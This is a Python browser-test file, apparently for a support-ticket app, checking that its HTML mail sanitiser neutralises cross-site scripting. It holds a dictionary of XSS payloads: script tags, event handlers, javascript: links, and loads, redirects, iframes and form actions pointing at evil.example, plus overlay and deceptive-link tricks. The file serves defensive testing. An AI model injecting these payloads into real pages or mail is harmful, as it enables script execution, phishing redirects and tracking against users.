"""Every vector of the corpus in Chromium with script on: in the ticket's own frame, and with nothing to guard it."""

from base64 import encodebytes
from collections.abc import Sequence

import pytest
from apiflask import APIFlask
from playwright.sync_api import Browser, Page
from sqlalchemy import select

from tests.browser.canary import Canary, Elsewhere
from tests.browser.conftest import LiveServer, session_of
from tests.mail.xss import BYTES, VECTORS
from ticketapp.actions import intake, ledger
from ticketapp.clock import utc_now
from ticketapp.db import db
from ticketapp.mail import parse, sanitise
from ticketapp.models import Message, User
from ticketapp.outside import outside

AT_ONCE = 160
PIXEL = "<img src=http://evil.example/pixel.png>"
# What each of these does where nothing stops it: the canary that sees nothing here proves nothing elsewhere.
HARMFUL = {
    "<script>alert(1)</script>": "ran",
    "<img src=x onerror=alert(1)>": "ran",
    "<svg onload=alert(1)>": "ran",
    "<a href='javascript:alert(1)'>x</a>": "ran",
    "<details open ontoggle=alert(1)>x</details>": "ran",
    "<script src=http://evil.example/x.js></script>": "asked for http://evil.example/x.js",
    "<p style='background:url(http://evil.example/x)'>x</p>": "asked for http://evil.example/x",
    "<img srcset='http://evil.example/set.png 1x'>": "asked for http://evil.example/set.png",
    "<meta http-equiv=refresh content='0;url=http://evil.example/r'>": "turned into http://evil.example/r",
    "<iframe src=http://evil.example/frame.html></iframe>": "turned into http://evil.example/frame.html",
    "<form action=http://evil.example/form><button>x</button></form>": "turned into http://evil.example/form?",
    "<div style='position:fixed;top:0'>x</div>": "position fixed",
    "<div style='margin-top:calc(0px - 500px)'>x</div>": "negative margin",
    "<a href='http://bank.example@evil.example/'>x</a>": "link http://bank.example@evil.example/",
}


@pytest.fixture
def elsewhere(live_server: LiveServer) -> Elsewhere:
    """A stranger's server on this machine."""
    server = Elsewhere()
    server.host = live_server(server.app).removeprefix("http://")
    return server


def letter_of(body: bytes, charset: str, number: int = 0) -> bytes:
    """A mail of that HTML and nothing else; all but number 0 answer number 0."""
    answers = "In-Reply-To: <0@shop.example>\nReferences: <0@shop.example>\n" if number else ""
    return (
        "From: zoe@shop.example\nTo: support@example.com\nSubject: Offer\n"
        f"Message-ID: <{number}@shop.example>\n{answers}MIME-Version: 1.0\n"
        f'Content-Type: text/html; charset="{charset}"\nContent-Transfer-Encoding: base64\n\n'
    ).encode() + encodebytes(body)


def bare_pages(fragments: Sequence[str]) -> APIFlask:
    """A site without any policy: ``/n`` is a fragment alone in a page, ``/from/n`` shows many, each in a frame."""
    site = APIFlask("bare", enable_openapi=False)

    @site.get("/<int:number>")
    def one(number: int) -> str:
        return f"<!doctype html><meta charset=utf-8><title>Bare</title><div id=letter>{fragments[number]}</div>"

    @site.get("/from/<int:first>")
    def many(first: int) -> str:
        numbers = range(first, min(first + AT_ONCE, len(fragments)))
        return "<!doctype html>" + "".join(f"<iframe src=/{number}></iframe>" for number in numbers)

    return site


def harms_of_bare(browser: Browser, url: str, count: int) -> dict[int, list[str]]:
    """What the fragments of a bare site did, by their number; -1 where it cannot be told."""
    found: dict[int, list[str]] = {}
    for first in range(0, count, AT_ONCE):
        with browser.new_context(base_url=url) as context:
            page = context.new_page()
            canary = Canary(context, page)
            page.goto(f"/from/{first}")
            canary.provoke()
            found.update(by_number(canary.found(), {f"/{number}": number for number in range(count)}))
    return found


def by_number(found: dict[str, list[str]], numbers: dict[str, int]) -> dict[int, list[str]]:
    """What was found by path, by the number of the vector that is shown there."""
    return {numbers.get(path, -1): harms for path, harms in found.items()}


def harms_on_a_ticket(app: APIFlask, letters: Sequence[bytes], page: Page, canary: Canary) -> dict[int, list[str]]:
    """What letters of one conversation did on its page, by their place in it; -1 where it cannot be told."""
    with app.app_context():
        frames = take_in_conversation(letters)
    page.goto(f"/tickets/{frames[0].split('/')[2]}")
    assert page.locator("iframe").count() == sum(bool(parse(letter).html) for letter in letters)
    canary.provoke()
    return by_number(canary.found(), {path: number for number, path in enumerate(frames)})


def take_in_conversation(letters: Sequence[bytes]) -> list[str]:
    """Take mails in together, all on the first one's ticket; the paths of their frames."""
    seen = [
        ledger.SeenMail(uid=uid, size=len(raw), arrived_at=utc_now(), raw=raw) for uid, raw in enumerate(letters, 1)
    ]
    mail_ids = ledger.record(ledger.register_mailbox("test"), 1, seen)
    for some in (mail_ids[:1], mail_ids[1:]):
        intake.process_many(some, store=outside().store, rules=outside().rules)
    messages = db.session.scalars(select(Message).order_by(Message.id)).all()
    return [f"/tickets/{message.ticket_id}/messages/{message.id}/html" for message in messages]


def told(harms: dict[int, list[str]], sources: Sequence[object]) -> str:
    """The harms in lines that name the vector; empty where there are none."""
    return "\n".join(
        f"{str(sources[number])[:300] if number >= 0 else '?'}: {seen}" for number, seen in harms.items()
    )


def test_the_canary_sees_what_harm_does(browser: Browser, live_server: LiveServer, elsewhere: Elsewhere) -> None:
    armed = [elsewhere.armed(vector) for vector in HARMFUL]
    seen = harms_of_bare(browser, live_server(bare_pages(armed)), len(armed))
    expected = [elsewhere.armed(harm) for harm in HARMFUL.values()]
    assert [harm for number, harm in enumerate(expected) if harm not in seen.get(number, ())] == []
    assert {"/x.js", "/x", "/set.png", "/r", "/frame.html", "/form"} <= set(elsewhere.hits)


def test_what_the_sanitiser_leaves_is_harmless_with_nothing_to_guard_it(
    browser: Browser, live_server: LiveServer, elsewhere: Elsewhere
) -> None:
    read = [parse(letter_of(body, charset)).html or "" for charset, body in BYTES]
    fragments = [*(sanitise(elsewhere.armed(vector)) for vector in VECTORS), *read]
    harms = harms_of_bare(browser, live_server(bare_pages(fragments)), len(fragments))
    assert told(harms, [*VECTORS, *BYTES]) == ""
    assert elsewhere.hits == []


@pytest.mark.parametrize("first", range(0, len(VECTORS) + len(BYTES), AT_ONCE))
def test_on_the_ticket_page_no_mail_runs_loads_turns_or_covers_anything(
    app: APIFlask, agent: User, browser: Browser, live_server: LiveServer, elsewhere: Elsewhere, first: int
) -> None:
    armed = [("utf-8", elsewhere.armed(PIXEL + vector).encode()) for vector in VECTORS]
    some = [*armed, *BYTES][first : first + AT_ONCE]
    letters = [letter_of(body, charset, number) for number, (charset, body) in enumerate(some)]
    url = live_server(app)
    with browser.new_context(base_url=url) as context:
        context.add_cookies([{"name": "session", "value": session_of(app, agent), "url": url}])
        page = context.new_page()
        canary = Canary(context, page)
        harms = harms_on_a_ticket(app, letters, page, canary)
    assert told(harms, [*VECTORS, *BYTES][first : first + AT_ONCE]) == ""
    assert elsewhere.hits == []
